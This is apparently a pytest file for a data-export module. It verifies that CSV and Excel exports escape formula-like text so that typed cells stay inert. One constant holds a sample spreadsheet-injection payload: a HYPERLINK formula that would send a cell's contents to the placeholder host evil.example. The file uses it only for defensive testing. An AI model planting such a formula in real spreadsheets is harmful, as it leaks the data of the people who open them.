"""No formula injection in exports (issue 11, point 6): text a person typed is text in every workbook and
CSV. The checks read the files back as XML and as CSV, independently of the helper."""

from __future__ import annotations

import csv
import io
import zipfile

import pandas as pd
import pytest

from indsats.outcomes import exporting
from indsats.ui.spreadsheets import csv_frame, csv_text

INJECTION = '=HYPERLINK("http://evil.example/?d="&B5,"klik")'


def formulas_in(workbook: bytes) -> list[str]:
    """The <f> elements of every sheet of an .xlsx (a live formula is an <f>)."""
    archive = zipfile.ZipFile(io.BytesIO(workbook))
    return [
        name
        for name in archive.namelist()
        if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name) or b"<f " in archive.read(name)
    ]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_text_prefixes_every_formula_start(start: str) -> None:
    assert csv_text(f"{start}1+1") == f"'{start}1+1"


def test_csv_text_leaves_plain_text_and_numbers() -> None:
    assert csv_text("Aarhus Kommune") == "Aarhus Kommune"
    assert csv_text(-3) == -3 and csv_text(2.5) == 2.5


def test_csv_frame_prefixes_text_cells_only() -> None:
    frame = pd.DataFrame({"navn": [INJECTION, "Bo"], "score": [-1.5, 2.0]})
    written = csv_frame(frame).to_csv(index=False, sep=";")
    rows = list(csv.reader(io.StringIO(written), delimiter=";"))
    assert rows[1] == ["'" + INJECTION, "-1.5"]
    assert rows[2] == ["Bo", "2.0"]


def test_the_outcomes_export_writes_typed_text_as_text() -> None:
    frame = pd.DataFrame({"deltager": ["A1"], "runde": [INJECTION], "total": [12.0]})
    dictionary = [{"variabel": "total", "etiket": "@SUM(A1:A9)", "værdier": "-2-2"}]
    workbook = exporting._write(frame, dictionary, "xlsx")
    assert formulas_in(workbook) == []
    data = zipfile.ZipFile(io.BytesIO(workbook))
    assert any(
        INJECTION.replace("&", "&amp;").replace('"', "&quot;").encode() in data.read(name)
        or INJECTION.replace("&", "&amp;").encode() in data.read(name)
        for name in data.namelist()
    )
    text = exporting._write(frame, dictionary, "csv").decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text), delimiter=";"))[1][1] == "'" + INJECTION
    archive = zipfile.ZipFile(
        io.BytesIO(exporting.archive(frame=frame, dictionary=dictionary, fmt="csv", stem="x"))
    )
    ordbog = archive.read("x-dataordbog.csv").decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(ordbog), delimiter=";"))[1] == ["total", "'@SUM(A1:A9)", "'-2-2"]
